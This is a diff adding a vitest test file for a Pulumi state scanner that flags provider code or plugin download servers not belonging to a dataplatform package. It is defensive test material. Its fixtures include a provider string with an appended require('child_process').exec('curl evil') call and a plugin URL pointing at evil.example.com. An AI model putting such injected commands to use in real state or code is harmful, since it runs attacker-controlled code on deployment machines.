@@ -1,0 +1,59 @@
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, test } from "vitest";
+import type { Exported } from "../../../cli/pipeline/state";
+import { foreignCode, foreignIn } from "../../../cli/pipeline/state-code";
+import { root } from "../../harness/engine";
+
+const urn = "urn:pulumi:dev::p::pulumi-nodejs:dynamic/dataplatform:WhitelistedIp::office";
+const type = "pulumi-nodejs:dynamic/dataplatform:WhitelistedIp";
+const own = 'exports.handler=()=>require("pulumi-dataplatform/dynamic").WhitelistedIp';
+const evil = `${own};require("child_process").exec("curl evil")`;
+const secret = { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", ciphertext: "v1:x" };
+
+test("the text of this package, in both places, and none in plugin mode", () => {
+  const resources = [
+    { urn, type, inputs: { __provider: own }, outputs: { __provider: own } },
+    {
+      urn: "urn:pulumi:dev::p::dataplatform:index:WhitelistedIp::a",
+      type: "dataplatform:index:WhitelistedIp",
+      inputs: {},
+    },
+  ];
+  expect(foreignCode({ deployment: { resources } })).toEqual([]);
+});
+
+test.each(["0.1.0-dynamic.json", "0.1.0-plugin.json"])("a state of %s is ours", (name) => {
+  const { state } = JSON.parse(readFileSync(join(root, "test/engine/upgrade", name), "utf8")) as { state: Exported };
+  expect(state.deployment!.resources!.length).toBeGreaterThan(5);
+  expect(foreignCode(state)).toEqual([]);
+});
+
+describe("what would be executed and is not ours", () => {
+  const one = (more: object) => ({ urn, type, ...more });
+  test.each([
+    ["in the inputs", one({ inputs: { __provider: evil } })],
+    ["in the outputs", one({ inputs: { __provider: own }, outputs: { __provider: evil } })],
+    ["of another of our types", one({ inputs: { __provider: own.replace("WhitelistedIp", "Account") } })],
+    ["another module", one({ inputs: { __provider: own.replace("pulumi-dataplatform", "pulumi-dataplatfrom") } })],
+    ["encrypted", one({ outputs: { __provider: secret } })],
+    ["of a type that is not ours", { urn, type: "pulumi-nodejs:dynamic:Resource", inputs: { __provider: own } }],
+    ["hidden in a type of the plugin", { urn, type: "dataplatform:index:WhitelistedIp", inputs: { __provider: evil } }],
+  ])("%s", (_what, resource) => {
+    const found = foreignCode({ deployment: { resources: [resource] } });
+    expect(found).toEqual([expect.stringMatching(/^foreign code: __provider of /)]);
+    // Also where a run was interrupted.
+    expect(foreignCode({ deployment: { pending_operations: [{ resource }] } })).toEqual(found);
+  });
+
+  test("a provider that names a server for its plugin", () => {
+    const provider = "urn:pulumi:dev::p::pulumi:providers:dataplatform::default";
+    const inputs = { version: "0.1.0", pluginDownloadURL: "https://evil.example.com" };
+    const resources = [{ urn: provider, type: "pulumi:providers:dataplatform", inputs }];
+    expect(foreignCode({ deployment: { resources } })).toEqual([
+      "foreign code: dataplatform default names a server to download its plugin from",
+    ]);
+    expect(foreignIn(provider, undefined, { __internal: { pluginDownloadURL: "x" } })).toHaveLength(1);
+    expect(foreignIn(provider, undefined, { version: "1" })).toEqual([]);
+  });
+});
